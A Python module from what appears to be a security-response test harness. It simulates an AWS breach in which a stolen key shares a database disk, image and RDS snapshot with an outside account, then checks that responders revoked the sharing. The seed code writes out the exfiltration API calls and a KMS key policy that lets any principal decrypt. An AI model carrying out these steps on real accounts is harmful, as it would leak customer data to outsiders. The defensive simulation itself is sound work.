"""Data shared outside: with a stolen key, the disk of the database host and its image go to another account."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any, ClassVar

from soar.model.base import JsonObject
from soar.simulated.base import AccountClients, Attack, Check, Scenario, guardduty_envelope
from soar.simulated.company import Company
from soar.simulated.stolen_key import api_call, key_check, key_details, key_facts

__all__ = ["SharedSnapshot"]

ATTACKER = "198.51.100.119"
"""TEST-NET-2: nobody's address."""

STRANGER, PARTNER = "777788889999", "444455556666"
DATABASE_SNAPSHOT = "kestrel-customers-before-migration"


class SharedSnapshot(Scenario):
    """With a developer's key somebody shares a disk, an image and a database's snapshot with an account of his."""

    name: ClassVar[str] = "shared-snapshot"
    title: ClassVar[str] = "The database's disk is shared with a stranger"
    playbook: ClassVar[str] = "aws-data-shared-outside"

    def seed(self, company: Company) -> Attack:
        """Keep a disk, an image and a database; share them; beside them, what a partner has by agreement."""
        victim = company.users["tomas.lindqvist"]
        thief = company.seen_by(victim)
        ec2, rds = company.client("ec2"), company.client("rds")
        volume = ec2.create_volume(Size=8, AvailabilityZone=f"{company.region}a")["VolumeId"]
        disk, agreed = (
            ec2.create_snapshot(VolumeId=volume, Description=text)["SnapshotId"]
            for text in ("kestrel-db nightly", "routes for the partner")
        )
        ec2.modify_snapshot_attribute(SnapshotId=agreed, **_disk_grant(PARTNER))
        base = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        host = ec2.run_instances(
            ImageId=base, MinCount=1, MaxCount=1, SubnetId=company.subnets["app-a"], InstanceType="t3.micro"
        )["Instances"][0]["InstanceId"]
        image = ec2.create_image(InstanceId=host, Name="kestrel-db-golden")["ImageId"]
        rds.create_db_instance(
            DBInstanceIdentifier="kestrel-customers",
            DBInstanceClass="db.t3.micro",
            Engine="postgres",
            AllocatedStorage=20,
            MasterUsername="kestrel",
            MasterUserPassword="correct-horse-1",
        )
        rds.create_db_snapshot(
            DBInstanceIdentifier="kestrel-customers", DBSnapshotIdentifier=DATABASE_SNAPSHOT
        )
        key = _key(thief.client("kms"), company.account)
        thief.client("ec2").modify_snapshot_attribute(SnapshotId=disk, **_disk_grant(STRANGER))
        thief.client("ec2").modify_image_attribute(
            ImageId=image, LaunchPermission={"Add": [{"UserId": STRANGER}]}
        )
        thief.client("rds").modify_db_snapshot_attribute(
            DBSnapshotIdentifier=DATABASE_SNAPSHOT, AttributeName="restore", ValuesToAdd=[STRANGER]
        )
        start = company.now - timedelta(minutes=9)
        added: JsonObject = {"add": {"items": [{"userId": STRANGER}]}}
        did: tuple[tuple[str, str, JsonObject], ...] = (
            ("ec2", "ModifySnapshotAttribute", {"snapshotId": disk, "createVolumePermission": added}),
            ("ec2", "ModifyImageAttribute", {"imageId": image, "launchPermission": added}),
            (
                "rds",
                "ModifyDBSnapshotAttribute",
                {"dBSnapshotIdentifier": DATABASE_SNAPSHOT, "valuesToAdd": [STRANGER]},
            ),
        )
        company.trail.write(
            [
                company.trail.event(
                    victim, service, name, start + timedelta(seconds=20 * n), ATTACKER, request=request
                )
                for n, (service, name, request) in enumerate(did)
            ]
        )
        return Attack(
            scenario=self.name,
            account=company.account,
            region=company.region,
            time=start,
            facts={
                "snapshot": disk,
                "agreed_snapshot": agreed,
                "image": image,
                "database_snapshot": DATABASE_SNAPSHOT,
                "kms_key": key,
                "stranger": STRANGER,
                "partner": PARTNER,
                **key_facts(victim, ATTACKER),
            },
        )

    def finding(self, attack: Attack) -> JsonObject:
        """`Exfiltration:EC2/TransferDataToCloudAccount`."""
        facts = attack.facts
        return guardduty_envelope(
            attack,
            rule="Exfiltration:EC2/TransferDataToCloudAccount",
            severity=8.0,
            title=f"{facts['user_name']} shared a snapshot with account {facts['stranger']}.",
            description=f"{facts['user_name']} shared {facts['snapshot']} with an account outside.",
            resource={
                "resourceType": "AccessKey",
                "accessKeyDetails": key_details(facts),
            },
            action=api_call(facts, "ec2", "ModifySnapshotAttribute"),
        )

    def check(self, account: AccountClients, attack: Attack) -> list[Check]:
        """Have the disk and the image come back, has the partner what was agreed, and is the key out of use?"""
        ec2, facts = account.client("ec2"), attack.facts
        disk, agreed = _users(ec2, facts["snapshot"]), _users(ec2, facts["agreed_snapshot"])
        image = ec2.describe_image_attribute(ImageId=facts["image"], Attribute="launchPermission")
        return [
            Check(name="the disk is shared with nobody", ok=not disk, seen=f"with {disk or 'nobody'}"),
            Check(
                name="the image is shared with nobody",
                ok=not image["LaunchPermissions"],
                seen=f"{image['LaunchPermissions']}",
            ),
            Check(
                name="the partner has what was agreed", ok=agreed == [facts["partner"]], seen=f"with {agreed}"
            ),
            key_check(account, facts),
        ]


def _disk_grant(account: str) -> dict[str, Any]:
    return {"Attribute": "createVolumePermission", "OperationType": "add", "UserIds": [account]}


def _key(kms: Any, account: str) -> str:
    """A key that everybody may use by its policy, and the stranger by a grant."""
    statements = [
        {
            "Sid": sid,
            "Effect": "Allow",
            "Principal": {"AWS": who},
            "Action": action,
            "Resource": "*",
        }
        for sid, who, action in (
            ("OurIam", f"arn:aws:iam::{account}:root", "kms:*"),
            ("Open", "*", "kms:Decrypt"),
        )
    ]
    policy = json.dumps({"Version": "2012-10-17", "Statement": statements})
    key = str(kms.create_key(Description="kestrel customers", Policy=policy)["KeyMetadata"]["KeyId"])
    grantee = f"arn:aws:iam::{STRANGER}:role/reader"
    kms.create_grant(KeyId=key, GranteePrincipal=grantee, Operations=["Decrypt"])
    return key


def _users(ec2: Any, snapshot: str) -> list[str]:
    found = ec2.describe_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission")
    return sorted(p.get("UserId") or p.get("Group", "") for p in found["CreateVolumePermissions"])
